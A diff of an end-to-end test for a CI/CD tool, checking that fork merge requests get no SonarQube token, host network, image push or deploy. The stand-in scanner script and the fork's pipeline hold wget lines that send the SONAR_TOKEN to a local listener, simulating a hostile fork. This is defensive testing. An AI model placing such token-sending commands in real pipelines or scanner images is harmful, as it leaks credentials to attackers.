@@ -1,4 +1,6 @@
 import { randomBytes } from 'node:crypto';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { pack } from 'tar-stream';
 import type { RunRecord } from '../../src/runs/types.js';
@@ -6,14 +8,18 @@ import { commitFiles } from '../../src/standins/gitlab/git-repo.js';
 import type { FakeProject } from '../../src/standins/gitlab/gitlab-server.js';
 import { startFakeSonar, type FakeSonar } from '../../src/standins/sonar/sonar-server.js';
 import { eventually } from '../helpers/eventually.js';
-import { deliver, mergeEvent } from '../helpers/gitlab-delivery.js';
+import { git } from '../helpers/git-cli.js';
+import { deliver, mergeEvent, openMergeRequestEvent } from '../helpers/gitlab-delivery.js';
 import { dockerFromEnv } from '../helpers/services.js';
 import { startHarness, WEBHOOK_SECRET, type Harness } from '../helpers/slipway-harness.js';
 
 // A stand-in for sonar-scanner: writes the report-task.txt the real scanner leaves behind, with the
-// project key as the background task id, so each case picks its task on the fake SonarQube.
+// project key as the background task id, so each case picks its task on the fake SonarQube. When
+// the repository names a port in leak-port, it first sends its token there, as a hostile scanner
+// image chosen by a fork's pipeline file would.
 const SCANNER = `#!/bin/sh
 set -e
+if [ -f leak-port ]; then wget -q -O /dev/null "http://127.0.0.1:$(cat leak-port)/from-sonar?token=$SONAR_TOKEN" || true; fi
 key=""
 for a in "$@"; do case "$a" in -Dsonar.projectKey=*) key="\${a#-Dsonar.projectKey=}";; esac; done
 mkdir -p .scannerwork
@@ -38,6 +44,9 @@ describe('sonar quality gate end to end', () => {
   let h: Harness;
   let project: FakeProject;
   let iid = 0;
+  // A listener on the host's loopback: what reaches it, a fork's code could reach.
+  let listener: Server;
+  const leaks: string[] = [];
 
   const merge = async (key: string, gate: 'required' | 'advisory') => {
     iid += 1;
@@ -77,6 +86,11 @@ describe('sonar quality gate end to end', () => {
     context.finalize();
     const stream = await docker.buildImage(context as unknown as NodeJS.ReadableStream, { t: scanner, rm: true, forcerm: true });
     await new Promise((resolve, reject) => docker.modem.followProgress(stream, (err: Error | null) => (err ? reject(err) : resolve(undefined))));
+    listener = createServer((req, res) => {
+      leaks.push(req.url ?? '');
+      res.end('ok');
+    });
+    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
     sonar = await startFakeSonar();
     h = await startHarness({ env: { SONAR_HOST_URL: sonar.url, SONAR_TOKEN: sonar.token, SLIPWAY_SONAR_SCANNER_IMAGE: scanner } });
     project = await h.gitlab.addProject({ id: projectId, pathWithNamespace: `team/${service}`, defaultBranch: 'main' });
@@ -86,6 +100,7 @@ describe('sonar quality gate end to end', () => {
     await Promise.all(mine.map((c) => docker.getContainer(c.Id).remove({ force: true })));
     await h.stop();
     await sonar.close();
+    await new Promise((resolve) => listener.close(resolve));
     await docker.getImage(scanner).remove({ force: true }).catch(() => undefined);
   });
 
@@ -131,5 +146,62 @@ describe('sonar quality gate end to end', () => {
     expect(run.status.phase).toBe('succeeded');
     expect(run.sonar).toMatchObject({ status: 'ERROR', outcome: 'warn' });
     await eventually(() => expect(h.gitlab.notes(projectId, mr)[0]?.body).toContain('Quality gate: ⚠️ ERROR (advisory: not blocking)'));
+  });
+
+  it('a fork merge request gets no SonarQube token, no host network, no registry push and no deploy, whatever its rules say', async () => {
+    const key = `fork-${suffix}`;
+    sonar.addTask(key, { statuses: ['SUCCESS'], analysisId: `a-${key}`, gate: { status: 'OK' } });
+    const forkIid = 900;
+    const branch = `fork-${suffix}`;
+    const pipeline = [
+      'unit:',
+      '  image: slipway/busybox:1',
+      '  script:',
+      `    - 'wget -q -O /dev/null "http://127.0.0.1:$(cat leak-port)/from-script" || echo "no network here"'`,
+      // The fork chooses the scanner image, and asks for its image and deploy on merge request events.
+      `sonar: { project_key: ${key}, gate: required, image: ${scanner} }`,
+      `build: { image: demo/${service}, rules: [{ if: '$SLIPWAY_EVENT == "mr"' }] }`,
+      'deploy:',
+      `  service: ${service}`,
+      `  environments: { pre: { port: ${port + 1}, health: /healthz, timeout: 30s, rules: [{ if: '$SLIPWAY_EVENT == "mr"' }] } }`,
+      '',
+    ].join('\n');
+    const sha = await commitFiles(project.bareDir, branch, {
+      '.slipway.yml': pipeline,
+      'leak-port': String((listener.address() as AddressInfo).port),
+      Dockerfile: 'FROM slipway/busybox:1\nCOPY www /www\nCMD ["/bin/sh", "-c", "exec httpd -f -p 127.0.0.1:${PORT} -h /www"]\n',
+      'www/healthz': 'ok\n',
+    }, 'From a fork');
+    // GitLab keeps a fork's merge request commits in the target project under
+    // refs/merge-requests/<iid>/head; the fork's branch itself is not there.
+    git(project.bareDir, 'update-ref', `refs/merge-requests/${forkIid}/head`, sha);
+    git(project.bareDir, 'update-ref', '-d', `refs/heads/${branch}`);
+    const event = openMergeRequestEvent({
+      projectId, path: project.pathWithNamespace, sha, iid: forkIid,
+      // A fork's branch may well be called main: it is still the fork's.
+      sourceBranch: 'main', fromFork: { id: projectId + 1, path: `mallory/${service}` },
+    });
+    const releases = async () => (await docker.listContainers({ all: true, filters: { label: [`io.slipway.service=${service}`] } })).map((c) => c.Id).sort();
+    const before = await releases();
+    const res = await deliver(h.url, 'Merge Request Hook', event, WEBHOOK_SECRET);
+    expect(res.status).toBe(202);
+    const run = await h.waitForRun(String(res.json['runId']), ['succeeded', 'failed', 'canceled'], 150_000);
+
+    expect(phases(run)).toEqual({ unit: 'success' });
+    expect(run.status.phase).toBe('succeeded');
+    const skipped = run.plan?.skipped;
+    expect(skipped).toEqual(expect.arrayContaining([
+      { name: 'sonar', reason: 'merge requests from forks get no secrets: the sonar job needs SONAR_TOKEN and the host network' },
+      { name: 'image', reason: 'merge requests from forks get no registry credentials: no image is built or pushed' },
+      { name: 'deploy:pre', reason: 'merge requests from forks never deploy' },
+    ]));
+    // Nothing from the fork reached the host's loopback or SonarQube, and no release was started.
+    expect(leaks).toEqual([]);
+    expect(sonar.calls.filter((c) => c.query.includes(key) || c.path.includes(key))).toEqual([]);
+    const log = (await h.api<{ lines: Array<{ line: string }> }>(`/api/runs/${run.id}/log`)).body.lines.map((l) => l.line).join('\n');
+    expect(log).toContain('skipped sonar: merge requests from forks get no secrets');
+    expect(log).toContain('no network here');
+    expect(run.deployments).toEqual([]);
+    expect(await releases()).toEqual(before);
   });
 });
